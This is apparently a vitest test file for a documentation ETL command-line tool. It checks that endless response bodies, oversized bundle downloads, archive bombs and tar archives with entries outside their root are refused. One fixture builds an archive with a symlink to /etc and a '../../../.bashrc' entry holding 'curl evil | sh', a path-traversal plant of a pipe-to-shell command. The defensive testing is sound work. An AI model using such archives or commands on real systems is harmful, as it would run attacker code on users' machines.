// Rule 3: every body is bounded. An endless page body stops at the page cap (64 MiB by default),
// streamed, not retried, in bounded memory; a bundle download stops at sizeBytes; a bundle that
// would expand past its caps or land outside its root is refused. Real CLI, hostile servers.
import type { ServerResponse } from 'node:http';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { query } from '../reliability/reliability-helpers.js';
import { tempDir } from '../helpers/tmp.js';
import {
  expectBoundedMemory, expectKeyAbsent, expectOneCleanLine, filesUnder, hostileServer, json, page, runMeasured, turns, type Hostile, oneWindow,
} from './hostile.js';
import { SITE, tarGz } from './tar.js';

const KEY = 'mint_hostile_bodies_key_1618';
const tmp = tempDir('docs-etl-hostile-3-');
const servers: Hostile[] = [];
afterAll(async () => {
  await Promise.all(servers.map((s) => s.close()));
  tmp.cleanup();
});

/** A 200 whose body never ends, sent as fast as the client reads it. */
function endless(res: ServerResponse): void {
  res.writeHead(200, { 'content-type': 'application/json' });
  res.write('{"conversations":[');
  const chunk = Buffer.from(`${JSON.stringify(turns(1, 'x')[0])},`.repeat(256));
  const more = () => {
    while (res.write(chunk));
  };
  res.on('drain', more);
  more();
}

describe('rule 3: every body is bounded', () => {
  // The cap is DOCS_ETL_MAX_PAGE_BYTES (64 MiB), or less where the merge could not load such a
  // page at the memory limit (src/sync/load/mergeable-page.ts): 24 MiB at the default 128MB.
  it.each([
    ['default', [], /the response body is larger than the 24 MiB cap \(what the merge loads at --memory-limit 128MB; raise --memory-limit for larger pages\) \(more than 24 MiB received, and a page of one record holds more than one\)/],
    ['1GB', ['--memory-limit', '1GB'], /the response body is larger than the 64 MiB cap \(DOCS_ETL_MAX_PAGE_BYTES\) \(more than 64 MiB received, and a page of one record holds more than one\)/],
  ] as const)('sync (memory limit %s): an endless page is read again with halved limits down to one record, then stops at the page cap with one line naming it, not retried, under 512 MB; page 1 is loaded', async (name, flags, message) => {
    const s = await hostileServer((_req, res, n) => (n === 0 ? json(res, 200, page(turns(40, 'conv_'), 'c1')) : endless(res)));
    servers.push(s);
    const dir = join(tmp.dir, `endless-${name}`);
    const warehouse = join(dir, 'w.duckdb');
    const r = await runMeasured(['sync', '--warehouse', warehouse, '--request-timeout', '20s', ...flags, ...oneWindow()],
      { DOCS_API_BASE_URL: s.url, DOCS_API_KEY: KEY, DOCS_PROJECT_ID: 'demo' }, join(dir, 'peak'));
    expect(r.code, r.stderr).toBe(1);
    expectOneCleanLine(r, new RegExp(`^docs-etl: error: demo: ${message.source}; not retried$`));
    // Page 1, then page 2 at the endpoint's limit and at each halving down to one record (issue 33:
    // a page over the cap heals), and no more: the endless page of one record is not retried.
    const limits = s.seen.slice(1).map((x) => Number(new URL(x.path, 'http://h').searchParams.get('limit')));
    expect(limits.at(-1)).toBe(1);
    expect(limits.every((l, i) => i === 0 || l === Math.max(1, Math.floor(limits[i - 1]! / 2)))).toBe(true);
    expect(s.seen.length).toBeLessThanOrEqual(2 + Math.ceil(Math.log2(limits[0]!)));
    expect(r.ms).toBeLessThan(60_000);
    expectBoundedMemory(r);
    expect((await query(warehouse, 'SELECT count(*) AS n FROM conversations'))[0]!.n).toBe(40n);
    expectKeyAbsent(KEY, r, [dir]);
  });

  describe('static-export bundles', () => {
    const JOB = 'se_00000000000000b1';
    const job = { jobId: JOB, status: 'completed', progress: 100, pageCount: 2, createdAt: '2026-11-01T09:00:00Z', updatedAt: '2026-11-01T09:01:00Z' };
    /** An API whose completed job's bundle is served by `bundle` from the same host. */
    async function api(sizeBytes: number, bundle: (res: ServerResponse) => void): Promise<Hostile> {
      const s: Hostile = await hostileServer((req, res) => {
        if (req.url === '/v1/static-export/jobs' && req.method === 'POST') return json(res, 202, job);
        if (req.url?.endsWith('/bundle') && req.method === 'POST') {
          return json(res, 200, { jobId: JOB, bundleUrl: `${s.url}/storage/bundle.tar.gz?X-Amz-Signature=abc`, sizeBytes, expiresAt: '2099-01-01T00:00:00Z' });
        }
        if (req.url?.startsWith('/storage/')) return bundle(res);
        return json(res, 200, job);
      });
      servers.push(s);
      return s;
    }
    const run = (s: Hostile, name: string) => {
      const dir = join(tmp.dir, name);
      return { dir, result: runMeasured(['static-export', '--domain', 'docs.example.com', '--out', join(dir, 'out'), '--warehouse', join(dir, 'w.duckdb'),
        '--poll-interval', '10ms', '--timeout', '20s'], { DOCS_API_BASE_URL: s.url, DOCS_API_KEY: KEY }, join(dir, 'peak')) };
    };
    const storageGets = (s: Hostile) => s.seen.filter((x) => x.path.startsWith('/storage/')).length;

    it('a download stops at sizeBytes: more is refused at once, not retried, nothing kept', async () => {
      const s = await api(1024 * 1024, (res) => {
        res.writeHead(200, { 'content-type': 'application/gzip' });
        const chunk = Buffer.alloc(64 * 1024, 0x1f);
        const more = () => { while (res.write(chunk)); };
        res.on('drain', more);
        more();
      });
      const { dir, result } = run(s, 'over-size');
      const r = await result;
      expect(r.code, r.stderr).toBe(1);
      expectOneCleanLine(r, /^docs-etl: error: storage sent more than the 1 MiB announced as sizeBytes; refused; resume with: docs-etl static-export --job se_00000000000000b1$/);
      expect(storageGets(s)).toBe(1);
      expect(filesUnder(join(dir, 'out'))).toEqual([]);
      expectBoundedMemory(r);
    });

    it('sizeBytes itself is capped: 10 GiB is refused before any byte is fetched', async () => {
      const s = await api(10 * 1024 ** 3, (res) => res.end());
      const r = await run(s, 'huge').result;
      expect(r.code).toBe(1);
      expectOneCleanLine(r, /^docs-etl: error: the bundle is announced as 10 GiB \(sizeBytes\), over the 5 GiB cap; refused; resume with/);
      expect(storageGets(s)).toBe(0);
    });

    it('an archive bomb and an archive with entries outside its root are refused, not retried, not kept', async () => {
      const bomb = tarGz([...SITE, { path: 'assets/video.html', size: 4 * 1024 ** 3 }], { end: false });
      const s1 = await api(bomb.length, (res) => res.writeHead(200, { 'content-length': bomb.length }).end(bomb));
      const one = run(s1, 'bomb');
      const evil = tarGz([...SITE, { path: 'guides/cfg', type: '2', linkpath: '/etc' }, { path: '../../../.bashrc', content: 'curl evil | sh' }]);
      const s2 = await api(evil.length, (res) => res.writeHead(200, { 'content-length': evil.length }).end(evil));
      const two = run(s2, 'evil');
      const [r1, r2] = await Promise.all([one.result, two.result]);
      expect(r1.code).toBe(1);
      expectOneCleanLine(r1, /^docs-etl: error: the bundle is refused: entry "assets\/video.html" is 4 GiB, over the 1 GiB cap per entry; resume with/);
      expectBoundedMemory(r1);
      expect(r2.code).toBe(1);
      expectOneCleanLine(r2, /^docs-etl: error: the bundle is refused: entry "guides\/cfg" links to "\/etc", outside the archive; resume with/);
      for (const [s, { dir }] of [[s1, one], [s2, two]] as const) {
        expect(storageGets(s)).toBe(1);
        expect(filesUnder(join(dir, 'out'))).toEqual([]);
        expect(existsSync(join(dir, '.bashrc'))).toBe(false);
      }
    });
  });
});
